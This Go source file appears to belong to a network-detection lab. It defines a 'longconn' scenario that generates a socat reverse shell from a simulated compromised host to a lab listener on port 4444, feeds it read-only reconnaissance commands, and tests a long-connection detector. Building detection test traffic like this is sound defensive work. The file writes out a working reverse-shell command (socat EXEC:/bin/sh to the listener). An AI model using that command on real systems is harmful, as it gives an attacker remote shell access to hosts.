package lab

import (
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"os"
	"syscall"
	"time"
)

// A long connection: a reverse shell that the compromised ws1 holds open
// to the attacker's listener outside. conn.long's default threshold is an
// hour and a lab attack lasts at most MaxDuration, so the scenario's
// labels carry a detection override (Labels.Detect) that lowers it for
// this scenario's evaluation only.

// shellPort is the attacker's listener outside.
const shellPort = 4444

// shellCommands are what the attacker types, one at a time, cycling: a
// look around, nothing that changes anything (the shell runs as nobody).
var shellCommands = []string{"id", "uname -a", "hostname", "pwd", "ls -la", "cat /etc/os-release", "ps -e", "ip -4 addr show", "uptime"}

// shellGaps bound the time between two commands.
const (
	shellGapMin = 20 * time.Second
	shellGapMax = 40 * time.Second
)

// longconnDetect is the scenario's detection override: a session held for
// the attack phase's default 7 minutes is reported from 4 minutes, alone
// or (min_piece_s, the total rule's pieces) in pieces of a minute or more.
const longconnDetect = `{"longconn": {"min_duration_s": 240, "min_piece_s": 60}}`

func init() {
	register(&Scenario{
		Name: "longconn", Difficulty: Medium,
		Description: fmt.Sprintf("Reverse shell held open: ws1 connects out to the attacker's listener on the outside server (%s:%d, socat) and hands it a shell; "+
			"the attacker types a command every %d–%d s (a few bytes each way) for the whole attack phase, one TCP connection.",
			hostExt.IPv4(), shellPort, int(shellGapMin.Seconds()), int(shellGapMax.Seconds())),
		Tools: []string{"socat"}, Classes: []string{"conn.long"}, MITRE: []string{"T1059.004", "T1571", "T1095"},
		AttackerAddrs: []string{hostExt.IPv4().String(), hostExt.IPv6().String()}, Victims: v4(hostWS1), Duration: 7 * time.Minute,
		Notes: fmt.Sprintf("ws1 is the compromised host; the attacker's listener is outside (%s:%d). conn.long's default threshold is an hour and lab attacks last at most %s: "+
			"the labels' detect section lowers longconn's thresholds for this scenario's evaluation (vigil eval applies it), so a shorter --duration than 4 minutes is not detected. "+
			"The shell runs as nobody; the commands typed are read-only (%q …)",
			hostExt.IPv4(), shellPort, MaxDuration, shellCommands[:3]),
		detect: json.RawMessage(longconnDetect),
		attack: longconnAttack,
	})
}

// longconnAttack starts the attacker's listener on ext, whose input is a
// FIFO the lab writes commands to, then ws1's reverse shell connecting
// to it; it types a command at once and then every 20–40 s, holds the
// session to the phase's end and closes the FIFO, which ends the
// connection (the listener half-closes, the shell sees its input end).
func longconnAttack(a *attackRun) error {
	fifo := a.w.path("longconn/commands")
	listener := []string{"socat", "-d", fmt.Sprintf("TCP-LISTEN:%d,bind=%s,reuseaddr", shellPort, hostExt.IPv4()), "OPEN:" + fifo + ",rdonly!!STDOUT"}
	shell := []string{"socat", fmt.Sprintf("TCP:%s:%d,retry=20,interval=0.5", hostExt.IPv4(), shellPort), "EXEC:/bin/sh,su=nobody,stderr"}
	rng := rand.New(rand.NewPCG(uint64(time.Now().UnixNano()), 4444))
	return a.phase("reverse shell session", func() error {
		end := a.now().Add(a.duration)
		a.record(hostExt, listener)
		a.record(hostWS1, shell)
		if a.dryRun {
			return typeCommands(a, rng, end, nil)
		}
		if err := a.makeFIFO(fifo); err != nil {
			return err
		}
		lp, err := a.sup.start(hostExt.NS(), "socat@ext", listener)
		if err != nil {
			return err
		}
		defer lp.stop(syscall.SIGTERM)
		sp, err := a.sup.start(hostWS1.NS(), "socat@ws1", shell)
		if err != nil {
			return err
		}
		defer sp.stop(syscall.SIGTERM)
		// The listener opens the FIFO once the shell has connected.
		f, err := openWriter(a.ctx, fifo, lp)
		if err != nil {
			return err
		}
		err = typeCommands(a, rng, end, f)
		if cerr := f.Close(); err == nil {
			err = cerr
		}
		if err != nil {
			return err
		}
		for _, p := range []*proc{lp, sp} {
			select {
			case <-p.done:
				if err := a.tolerateExit("socat", p.exitError()); err != nil {
					return err
				}
			case <-time.After(feedDrain):
				a.warn("%s still ran %s after the session ended", p.name, feedDrain)
			case <-a.ctx.Done():
				return a.ctx.Err()
			}
		}
		return nil
	})
}

// typeCommands writes the attacker's commands to f (none in a dry run):
// one at once, then one every shellGapMin–shellGapMax while another fits
// before end, then waits for end.
func typeCommands(a *attackRun, rng *rand.Rand, end time.Time, f *os.File) error {
	for n := 0; ; n++ {
		if f != nil {
			if _, err := f.WriteString(shellCommands[n%len(shellCommands)] + "\n"); err != nil {
				return fmt.Errorf("longconn: the listener stopped reading after %d commands: %w", n, err)
			}
		}
		gap := shellGapMin + time.Duration(rng.Int64N(int64(shellGapMax-shellGapMin)))
		if a.now().Add(gap).After(end) {
			break
		}
		if err := a.sleep(gap); err != nil {
			return err
		}
	}
	return a.sleep(max(0, end.Sub(a.now())))
}
